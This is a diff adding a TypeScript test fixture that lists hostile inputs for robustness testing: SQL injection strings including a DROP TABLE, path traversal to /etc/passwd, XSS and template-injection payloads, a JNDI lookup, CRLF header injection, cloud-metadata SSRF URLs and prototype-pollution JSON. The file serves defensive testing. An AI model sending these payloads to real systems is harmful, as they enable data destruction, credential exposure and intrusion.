@@ -1,0 +1,87 @@
+/** What somebody sends who means harm, or who has no idea: texts and values that have broken services before. */
+
+export const HOSTILE_TEXTS: readonly string[] = [
+  ...['', ' ', '\0', 'a\0b', '\ud800', '\udfff\ud800', '\u202e\u2066', '\ufeff', 'e\u0301'.repeat(40), '𝕳𝖊𝖑𝖑𝖔 👩‍👩‍👧'],
+  ...["' or 1=1; --", "'; drop table managed_tx; --", '$1', '$$', '\\', "\\'; select pg_sleep(10) --", '%', '_', '*'],
+  ...['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'then', 'length', 'undefined', 'null'],
+  ...['../../../../etc/passwd', '..\\..\\boot.ini', 'file:///etc/passwd', '/dev/null', 'C:\\con', '.', '..'],
+  ...['<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', '{{7*7}}', '#{7*7}', `\${jndi:ldap://h/a}`],
+  ...['\r\nX-Injected: yes', 'a\nb', '\t', '\x1b[31mred', '\x7f', '\x08\x08\x08'],
+  ...['0', '-0', '-1', '1e999', '1e-999', 'NaN', 'Infinity', '0x', '0X1', '0xg', '1_000', '٣', '1.5', '+1', '00001'],
+  ...['9'.repeat(400), '-'.repeat(300), 'A'.repeat(5_000), `0x${'f'.repeat(65)}`, `0x${'0'.repeat(400)}`],
+  ...['true', 'false', '[]', '{}', '[object Object]', '()', 'function(){}', 'javascript:alert(1)', 'a,b,c', ',,,'],
+  ...[
+    '0x52908400098527886E0F7030069857D2E4169EE8',
+    `0x${'00'.repeat(20)}`,
+    `0x${'ff'.repeat(20)}`,
+    `0x${'12'.repeat(32)}`,
+  ],
+  ...[
+    '00000000-0000-0000-0000-000000000000',
+    '01890a5d-ac96-774b-bcce-b302099a8057',
+    'g1890a5d-ac96-774b-bcce-b302099a8057',
+  ],
+  ...[
+    '2026-13-45T99:99:99Z',
+    '+275760-09-13T00:00:00.001Z',
+    '-271821-04-20T00:00:00Z',
+    '1969-12-31',
+    '2026-01-01T00:00:00+99:99',
+  ],
+  ...[
+    'http://169.254.169.254/latest/meta-data',
+    'http://[::1]:1',
+    'gopher://x',
+    'http://user:pass@h/',
+    '//h',
+    'http://0x7f.1',
+  ],
+  ...[
+    'transfer(address,uint256',
+    'f((((((((((uint256))))))))))',
+    'f(uint99999)',
+    'f()()',
+    `f(${'uint256,'.repeat(200)}uint256)`,
+  ],
+]
+
+export const HOSTILE_VALUES: readonly unknown[] = [
+  ...[null, true, false, 0, -0, -1, 0.1, 1e21, 1e308, -1e308, 2 ** 31, 2 ** 53, 2 ** 63, 2 ** 64, 1e-320],
+  ...[[], {}, [[]], [null], [{}], { a: { b: { c: {} } } }, Array.from({ length: 2_000 }, () => 0)],
+  { toString: 1, valueOf: 2, toJSON: 3 },
+  { constructor: { prototype: { polluted: true } } },
+  Object.fromEntries(Array.from({ length: 300 }, (_, index) => [`k${index}`, index])),
+]
+
+/** Written by hand: values that cannot be written from an object, or only with a stack that is deep enough. */
+export const HOSTILE_JSON: readonly string[] = [
+  '{"__proto__":{"polluted":true}}',
+  '{"constructor":{"prototype":{"polluted":true}}}',
+  '{"then":"x","toJSON":1}',
+  '{"from":1,"from":2,"from":3}',
+  `${'['.repeat(20_000)}${']'.repeat(20_000)}`,
+  `${'{"a":'.repeat(5_000)}1${'}'.repeat(5_000)}`,
+  `[${'1,'.repeat(50_000)}1]`,
+  `{"value":${'9'.repeat(5_000)}}`,
+  '{"value":1e99999}',
+  '"\\ud800\\u0000"',
+  '{"\\u0000":1,"":2}',
+  '-',
+  '',
+  ' ',
+  '{',
+  '[',
+  '"',
+  '{"a":}',
+  "{'a':1}",
+  '{"a":1,}',
+  'NaN',
+  '// comment\n{}',
+  '\ufeff{}',
+  '{}{}',
+  'null',
+  '0',
+  '"text"',
+  '[]',
+  '{}',
+]
